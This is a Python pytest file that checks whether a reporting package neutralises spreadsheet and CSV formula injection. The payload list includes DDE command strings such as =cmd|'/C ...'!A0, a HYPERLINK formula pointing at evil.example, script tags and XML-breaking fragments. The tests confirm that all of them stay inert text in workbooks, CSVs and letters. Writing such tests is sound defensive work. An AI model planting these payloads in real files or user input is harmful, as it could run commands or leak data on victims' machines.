"""Text from a return stays text wherever it goes: never a formula, a link, a format or markup."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from defusedxml import ElementTree
from hypothesis import given
from hypothesis import strategies as st

from laa_xl.domain.periods import Period
from laa_xl.domain.returns import ErrorValue
from laa_xl.files.cells import read_cells
from laa_xl.files.csv_writer import csv_text
from laa_xl.files.sheets import write_typed
from laa_xl.flow.answers import Asked
from laa_xl.flow.checking import check_inbox
from laa_xl.flow.desk import answer
from laa_xl.flow.pipeline import consolidate
from laa_xl.flow.programme import Programme
from tests.buttons.opened import Opened
from tests.support.programmes import NOW, filled, new_return, put

MARK = "ZQ7"
Q2 = Period(2008, 2)
STARTS = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫"
PAYLOADS = [
    *(f"{start}{MARK}" for start in STARTS),
    f'=HYPERLINK("http://evil.example/?{MARK}","{MARK}")',
    f"=cmd|'/C {MARK}'!A0",
    f"@SUM(1+1)*{MARK}",
    f" =1+{MARK}",
    f"\u200b={MARK}",
    f"{{=1+{MARK}}}",
    f"'={MARK}",
    f"http://evil.example/{MARK}",
    f"mailto:{MARK}@example.org",
    f"internal:'Dashboard'!{MARK}",
    f"external:c:\\{MARK}.xlsx",
    f"<b>{MARK}</b><script>alert('{MARK}')</script>",
    f"]]>&{MARK};<!--{MARK}",
    f"_x003D_{MARK}",
    f"_x0000_{MARK}",
    f'"{MARK}","{MARK}"\r\n={MARK}',
    f"\u202e{MARK}",
    f"&{MARK}&P&D",
    f'{MARK}"\'><x y="{MARK}',
]
# What would make something of a text: the element that holds it, or the element whose attribute it is.
ACTIVE = {
    "f", "formula", "formula1", "formula2", "definedName", "numFmt", "hyperlink", "Relationship", "instrText", "fldSimple",
    "cfRule", "tableColumn", "calculatedColumnFormula", "oddHeader", "oddFooter", "ddeLink", "altChunk", "control", "xf",
}  # fmt: skip
TEXTS = ("cause", "action", "action_owner", "comment", "data_period")


def local(tag: str) -> str:
    return tag.rpartition("}")[2]


def made_active(data: bytes) -> Iterator[str]:
    """Every place of a workbook or document where the mark does something; XML that is not well-formed raises."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if not name.endswith((".xml", ".rels", ".vml")):
                continue
            for element in ElementTree.fromstring(archive.read(name)).iter():
                said = [*(element.attrib.values() if local(element.tag) != "c" else ()), element.text or ""]
                if MARK in local(element.tag) or (local(element.tag) in ACTIVE and any(MARK in text for text in said)):
                    yield f"{name}: {local(element.tag)} {said}"


@pytest.fixture(scope="module")
def taken(tmp_path_factory: pytest.TempPathFactory) -> Programme:
    """A programme that accepted a return in which every text is hostile, and looked at one that it did not accept."""
    programme = filled("leicester-2008", tmp_path_factory.mktemp("injection"))
    state = programme.load()
    outcomes = {one.code for one in state.agreement.outcomes if one.theme == "SSC"}
    codes = [one.code for one in state.agreement.indicators if one.outcome in outcomes]
    words = iter(PAYLOADS * 20)
    changes: dict[str, dict[str, Any]] = {code: {column: next(words) for column in TEXTS} for code in codes}
    assert len(codes) * len(TEXTS) >= len(PAYLOADS)
    hostile = put(programme, f"=cmd_{MARK}.xlsx", new_return(programme, "SSC", Q2, changes))
    outcome = consolidate(programme, [hostile], None, NOW)
    assert [became for _, became in outcome.files] == ["accepted"], outcome.files[0][0].findings
    wrong = {code: {**texts, "actual": f"={MARK}"} for code, texts in changes.items()}
    put(programme, "wrong.xlsx", new_return(programme, "SSC", Q2, wrong))
    check_inbox(programme, NOW)
    for button in ("pack", "chase"):
        answer(programme, Asked(button, NOW))
    return programme


def outputs(programme: Programme, *endings: str) -> list[Path]:
    ours = [programme.master, *programme.folder("reports").rglob("*"), *programme.root.glob("*.*")]
    return sorted({path for path in ours if path.is_file() and path.suffix in endings})


def test_no_workbook_or_document_makes_anything_of_it(taken: Programme) -> None:
    found = {path: list(made_active(path.read_bytes())) for path in outputs(taken, ".xlsx", ".xlsm", ".docx")}
    assert {path.name for path in found} >= {"master.xlsm", "findings.xlsx", "wrong.xlsx"}
    assert sum(path.suffix == ".docx" for path in found) >= 1
    assert {path.name: places for path, places in found.items() if places} == {}


def test_the_words_are_there_as_they_were_typed(taken: Programme) -> None:
    """Otherwise the test above would prove nothing."""
    book = read_cells(taken.master.read_bytes())
    said = {cell.value for sheet in book.sheets for row in sheet.rows.values() for cell in row.values()}
    kept = [words for words in PAYLOADS if any(isinstance(text, str) and words.strip() in text for text in said)]
    assert len(kept) >= len(PAYLOADS) - 8, set(PAYLOADS) - set(kept)
    assert not any(
        cell.formula
        for sheet in book.sheets
        for row in sheet.rows.values()
        for cell in row.values()
        if MARK in str(cell.value)
    )


def test_no_csv_makes_anything_of_it(taken: Programme) -> None:
    found = outputs(taken, ".csv")
    assert any(MARK in path.read_text(encoding="utf-8-sig") for path in found)
    for path in found:
        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            assert not any(csv_text(cell) != cell for cell in line if MARK in cell), (path, line)


def test_no_letter_has_markup_of_it(taken: Programme) -> None:
    for path in outputs(taken, ".html", ".htm", ".eml", ".txt", ".md"):
        text = path.read_text(encoding="utf-8", errors="replace")
        assert f"<b>{MARK}" not in text
        assert "<script" not in text


def test_the_open_master_holds_it_as_text(taken: Programme) -> None:
    opened = Opened(taken)
    opened.press("rebuild")
    cells = [
        cell for sheet in opened.xl.worksheets for row in sheet.iter_rows() for cell in row if MARK in str(cell.value)
    ]
    assert len(cells) > len(PAYLOADS)
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []


IGNORED = st.text(st.sampled_from(" \u00a0\u200b\ufeff\u2060\t\r\n\x0b\u3000"), max_size=4)


@given(IGNORED, st.sampled_from([sign for sign in STARTS if not sign.isspace()]), st.text(max_size=20))
def test_in_a_csv_a_sign_at_the_start_has_an_apostrophe_before_it(before: str, sign: str, rest: str) -> None:
    assert csv_text(f"{before}{sign}{rest}") == f"'{before}{sign}{rest}"


@given(st.text(st.characters(whitelist_categories=["L", "N"]), min_size=1), st.text())
def test_in_a_csv_any_other_text_stays_as_it_is(first: str, rest: str) -> None:
    assert csv_text(first + rest) == first + rest


class Sheet:
    """Listens to what is written."""

    def __init__(self) -> None:
        self.calls: list[tuple[str, Any]] = []

    def __getattr__(self, name: str) -> Any:
        return lambda row, column, value, *rest: self.calls.append((name, value))


@pytest.mark.parametrize(
    ("error", "how"),
    [
        ("#REF!", "write_formula"),
        ("#N/A", "write_formula"),
        ("#SPILL!", "write_formula"),
        ('HYPERLINK("http://evil.example")', "write_string"),
        ("#REF!+cmd|'/C calc'!A0", "write_string"),
        ("", "write_blank"),
    ],
)
def test_an_error_is_written_as_one_only_where_it_is_called_like_one(error: str, how: str) -> None:
    sheet = Sheet()
    write_typed(sheet, 0, 0, ErrorValue(error), None)  # type: ignore[arg-type]
    assert [name for name, _ in sheet.calls] == [how]
